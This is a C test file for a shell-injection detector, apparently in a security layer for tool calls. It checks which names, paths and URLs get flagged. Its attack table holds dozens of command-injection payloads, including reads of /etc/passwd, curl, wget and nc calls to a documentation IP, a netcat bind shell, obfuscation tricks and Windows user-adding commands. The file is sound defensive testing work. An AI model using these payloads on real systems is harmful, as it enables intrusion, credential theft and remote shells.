/*
 * The shell judge: names that lead a shell on to a command, and names that
 * only look so.
 */

#include "mcp_judge.h"

#include "tap.h"

#include <stdlib.h>
#include <time.h>


/* In a name, a path, a host. */
static const char *const  attacks[] = {

    /* separators */
    "srv1; cat /etc/group", "srv1;id", "srv1 && whoami", "srv1 || ls -la",
    "srv1 | nc 203.0.113.4 99", "srv1 & ping -c 4 203.0.113.4",
    "srv1\nid", "srv1\r\nuname -a", "|id|", "';id;'", "\"|/usr/bin/id|\"",
    "a);id", "a)|id;", ";system_profiler; ls /", "main;netstat -an;",
    "x|usr/bin/id", "x;/bin/busybox sh", "x; ./run.sh -f",

    "x; ps aux", "x;mv a b", "x;ip a", "web1|gcc a.c", "x;aws s3 ls",
    "x; /tmp/evil", "x; . /tmp/x", "x;/dev/shm/a -q",
    "x; Start-Process calc", "x;bash -c id", "x && npm exec y",

    /* encoded, and as text */
    "logo.svg%0awhoami", "a%3Bcat%20%2Fetc%2Fhosts", "%250Aid%250A",
    "main\\nid\\n", "\\n/usr/bin/id;", "a&#59;id",
    "\357\274\233id",

    "data:image/gif;base64,R0lGOD;id", "data:image/gif;x=1;cat /etc/group",

    /* substitution */
    "main `id`",
    "x$(id)", "x`id`", "x$(curl http://203.0.113.4)", "x`wget 203.0.113.4/a`",
    "x$(</etc/group)", "x$(sort)",

    /* hiding */
    "a;w'h'oami", "a;c\\at /etc/group", "a;wh^oami", "a;{cat,/etc/group}",
    "a|cat${IFS}/etc/group", "a$IFS$9b", "a;/b?n/c?t /x", "a;/?\?\?/c?t",
    "a;c$@at /etc/group", "{ls,-la}",

    /* what no name has */
    "() { :;}; echo x", "<!--#exec cmd=\"id\"-->", "a > /etc/cron.d/x",
    "a < /etc/passwd",

    /* Windows */
    "10.0.0.9 & dir C:\\", "a|net user guest Pw1 /add", "a;NET VIEW",
    "a & type C:\\boot.ini", "report.pdfdir C:\\Users", "a;cmd.exe /c dir",
    "a&systeminfo", "a| reg add \"HKLM\\x\"",

    /* glued, or nothing else */
    "errorls -la /etc/", "ls -l /tmp", "report.pdfnc -lvp 4446 -e /bin/sh",

    /* in front of the command */
    "a; sudo id", "a;A=b env", "a;nohup curl http://203.0.113.4",
    "a; (id)", "a;!id",

    /* in URLs */
    "https://x.test/a; wget http://203.0.113.9/b",
    "https://x.test/$(id)", "https://x.test/a|id"
};

static const char *const  harmless[] = {

    /* names */
    "main", "feature/cat-food", "release-2.4", "O'Brien", "R&D; costs",
    "R&D; costs | benefits", "Sleep & Co; Ltd", "Kit; Echo", "Tom & Jerry",
    "Rock'n'Roll & Sons", "Minutes (final); Q&A.docx", "fix/cat&dog",
    "stash@{0}", "main^{commit}", "HEAD~2..HEAD", "price (net)", "$100",
    "a;b", "x | y", "salt; pepper", "cats & dogs; find a vet",

    "\\begin{cases} x & y \\\\ z & w \\end{cases}", "linux;bash", "zip|tar",
    "docker;kubectl", "src;./lib", "a.c;./b.c", "/home/a;/tmp/b",
    "mysql; psql and more", "Salt; Pepper", "name|date of birth",

    /* lists */
    "id;name;env", "id|name|type", "name | env | date", "linux;bash;docker",
    "python|perl|ruby", "price:desc;date:asc",

    /* patterns */
    "(ls|cd|pwd)\\b", "error|warn", "NOTE|HINT", "^(GET|POST) /api",
    "\\$\\{[A-Z_]+\\}", "**/*.{ts,tsx}", "/data/2024-?\?-*/x.csv",
    "a{1,2}", "user_id=\\d+", "<div>", "if (a < b)",

    /* paths and URLs */
    "C:\\new\\node\\readme.txt", "/srv/app/config.yml", "./build/run.sh",
    "https://x.test/a?x=1&ls=2;sort=date#cat", "https://x.test/?q=a%26b%7Cc",
    "images/50%25 off.png",

    /* substitutions of other languages */
    "The timestamp is stored in `id`.",
    "Clone the repo, `npm install`, and run `npm test`",
    "data:image/gif;base64,R0lGODlhAQABAIAAAP///wAAACH5BAEAAAAALAAAAAA=",
    "data:text/plain;charset=utf-8;base64,aWQ7aWQ=",
    "$(SRC)/main.c", "Hello {{ name }}", "${HOME}/x", "`users`", "$(document)"
};

/* In running text. */
static const char *const  text_attacks[] = {
    "hello; cat /etc/passwd", "x && curl http://203.0.113.5/a",
    "report | tee /tmp/x", "note $(cat /etc/passwd)"
};

static const char *const  text_harmless[] = {
    "Build with npm ci && npm test", "cats & dogs; find all",
    "Use `cat /etc/hosts` to see it", "first line\nls /etc\n",
    "it costs $(5)", "a; id"
};


static int
judge(const char *value, int text)
{
    return mcp_judge_shell((const unsigned char *) value, strlen(value),
                           text);
}


#define EACH(table, text, want)                                               \
    for (i = 0; i < sizeof(table) / sizeof(table[0]); i++) {                  \
        is_int(judge(table[i], text), want, "%s: %s", #table, table[i]);      \
    }


/* Every value of a few thousand bytes takes about as long as any other. */
static void
test_cost(void)
{
    size_t          i, k, n;
    clock_t         t;
    unsigned char  *p;

    static const char *const  units[] = {
        ";", "; ", ";a ", "`", "`a", "$(", "$($(", "(", ")", "{", "{cat,",
        "\\n", "\\na", "A=b ", ";A=b ", "&amp;", "%3b", "'", "\"'", "; (",
        "<", "> ", ";cat ", "|ls ", "-a ", ";sudo "
    };

    n = 64 * 1024;
    p = malloc(n);

    if (p == NULL) {
        ok(0, "memory");
        return;
    }

    for (i = 0; i < sizeof(units) / sizeof(units[0]); i++) {

        for (k = 0; k < n; k++) {
            p[k] = (unsigned char) units[i][k % strlen(units[i])];
        }

        t = clock();

        for (k = 0; k < 20; k++) {
            (void) mcp_judge_shell(p, n, 0);
        }

        /* sanitizers are slow */

        ok(clock() - t < CLOCKS_PER_SEC, "20 values of \"%s\"", units[i]);
    }

    free(p);
}


/* Nothing behind the end is read: what stands there decides nothing. */
static void
test_bounds(void)
{
    int          whole;
    size_t       i, n;
    const char  *p = "a; cat /etc/group";

    n = strlen(p);

    for (i = 0; i <= n; i++) {
        whole = mcp_judge_shell((const unsigned char *) p, i, 0);

        if (i < 8) {
            is_int(whole, 0, "the first %u bytes", (unsigned) i);
        }
    }

    is_int(judge(p, 0), 1, "all of it");
    is_int(mcp_judge_shell((const unsigned char *) "", 0, 0), 0, "nothing");
}


int
main(void)
{
    size_t  i;

    EACH(attacks, 0, 1);
    EACH(harmless, 0, 0);
    EACH(text_attacks, 1, 1);
    EACH(text_harmless, 1, 0);

    test_bounds();
    test_cost();

    return done();
}
